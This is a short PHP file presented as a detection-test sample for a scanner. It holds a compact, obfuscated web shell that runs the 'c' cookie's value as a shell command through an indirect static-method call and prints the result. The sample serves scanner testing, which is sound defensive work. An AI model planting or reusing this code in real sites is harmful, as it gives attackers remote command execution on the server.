<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
class U { public static function go($c) { return `$c`; } }
$f = 'U::go';
echo $f($_COOKIE['c']);
